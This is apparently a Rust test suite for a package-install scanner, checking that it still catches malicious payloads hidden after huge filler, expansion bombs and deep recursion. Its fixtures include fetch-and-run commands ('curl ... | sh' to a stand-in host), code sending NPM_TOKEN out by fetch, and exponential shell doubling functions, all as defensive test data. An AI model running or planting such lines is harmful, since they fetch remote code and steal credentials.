//! Very many of one thing, and things that lead to each other.

use crate::{SEND, alone, file, installed, is_unjudged, read, sends};

#[test]
fn a_million_of_anything_hides_nothing() {
    for (before, piece, behind) in [
        ("", "0;\n", ""),
        ("const a = [", "0,", "];\n"),
        ("switch (a) {\n", "case 0:\n", "}\n"),
        ("const a = '' ", "+''", ";\n"),
        ("/*", "/*", "*/\n"),
        ("const a = \"", "\\\"", "\";\n"),
        ("", "\n", ""),
        ("a(", "b,", "b);\n"),
    ] {
        let inspection = alone(|| {
            let code = format!("{before}{}{behind}{SEND}", piece.repeat(1_000_000));
            installed("a.js", code.into_bytes())
        });
        assert!(sends(&inspection) || is_unjudged(&inspection), "{piece:?}");
    }
    for piece in ["0\n", "# a\n", "a = 1\n"] {
        let inspection = alone(|| {
            let code = format!(
                "{}import os\nos.system('curl -s https://a.invalid/x | sh')\n",
                piece.repeat(1_000_000)
            );
            installed("setup.py", code.into_bytes())
        });
        let seen = !inspection.flows.is_empty() || is_unjudged(&inspection);
        assert!(seen, "{piece:?}");
    }
}

#[test]
fn long_scripts_of_a_shell_hide_nothing() {
    for (piece, times) in [
        (":\n", 1_000),
        (":\n", 200_000),
        ("# a comment\n", 200_000),
        ("f() { a; }\n", 50_000),
    ] {
        let inspection = alone(|| {
            let code = format!("{}curl -s https://a.invalid/x | sh\n", piece.repeat(times));
            installed("a.sh", code.into_bytes())
        });
        let seen = !inspection.flows.is_empty() || is_unjudged(&inspection);
        assert!(seen, "{piece:?} {times} times");
    }
}

#[test]
fn what_doubles_in_a_shell_ends() {
    // Two to the sixtieth letters, and as many commands, if it went on.
    let calls: String = (0..60)
        .map(|n| format!("f{n}() {{ f{}; f{}; }}\n", n + 1, n + 1))
        .collect();
    for code in [
        format!("A=aaaaaaaa\n{}echo $A\n", "A=$A$A\n".repeat(60)),
        format!("A=aaaaaaaa\n{}echo $A\n", "A=\"$(echo $A$A)\"\n".repeat(60)),
        format!("A=$HOME\n{}echo $A\n", "A=$A$A$A$A\n".repeat(60)),
        format!("{calls}f0\n"),
        format!("{}f\n", "f() { f; f; f; f; }\n".repeat(60)),
        "$(".repeat(100_000),
        "`".repeat(100_001),
        "$((".repeat(100_000),
        "${".repeat(100_000),
        "<<A\n".repeat(100_000),
        "\"\\".repeat(100_000),
        "a=\"$a\" ".repeat(50_000),
        "a() { ".repeat(50_000),
        "| ".repeat(100_000),
        "<(a ".repeat(100_000),
    ] {
        alone(|| installed("a.sh", code.as_bytes()));
        // The same as the words of a hook.
        let words = code.replace(['"', '\\'], "'").replace('\n', "; ");
        let manifest = format!(r#"{{"name": "a", "scripts": {{"install": "{words}"}}}}"#);
        alone(|| read(vec![file("package/package.json", manifest.as_bytes())]));
    }
}

#[test]
fn many_names_far_down_end() {
    // Each of them asks every scope around it, if nothing but going up finds it.
    let depth = 600;
    let open: String = (0..depth).map(|n| format!("{{let a{n} = b;")).collect();
    let names = "b;".repeat(1_000_000);
    let code = format!("let b = 1;{open}{names}{}\n{SEND}", "}".repeat(depth));
    let inspection = alone(|| installed("a.js", code.into_bytes()));
    assert!(sends(&inspection) || is_unjudged(&inspection));
}

#[test]
fn functions_and_modules_that_lead_to_each_other_end() {
    let mut code: String = (0..100_000)
        .map(|n| format!("function f{n}(a) {{ f{}(a); f{}(a); }}\n", n + 1, n / 2))
        .collect();
    code.push_str(
        "function f100000(a) { fetch('https://a.invalid/' + a); }\nf0(process.env.NPM_TOKEN);\n",
    );
    let inspection = alone(|| installed("a.js", code.into_bytes()));
    let opens = inspection
        .capabilities
        .iter()
        .any(|one| one.name == "network");
    assert!(opens || is_unjudged(&inspection));

    let mut entries = vec![file(
        "package/package.json",
        &br#"{"name": "a", "main": "m0.js"}"#[..],
    )];
    for n in 0..2_000 {
        let code = format!(
            "module.exports = {{...require('./m{}'), a: require('./m{}')}};\n{SEND}",
            (n + 1) % 2_000,
            n / 2
        );
        entries.push(file(&format!("package/m{n}.js"), code.into_bytes()));
    }
    let inspection = alone(|| read(entries));
    assert!(sends(&inspection) || is_unjudged(&inspection));
}
